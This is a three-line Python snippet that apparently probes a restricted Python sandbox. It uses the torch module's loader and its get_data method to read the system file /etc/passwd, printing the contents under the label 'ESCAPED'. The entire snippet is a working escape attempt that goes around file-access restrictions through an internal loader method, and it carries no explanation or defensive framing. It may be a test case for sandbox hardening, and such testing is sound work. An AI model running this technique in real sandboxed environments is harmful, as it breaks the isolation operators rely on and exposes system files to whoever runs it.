import torch
loader = torch.__spec__.loader
print("ESCAPED", loader.get_data("/etc/passwd"))
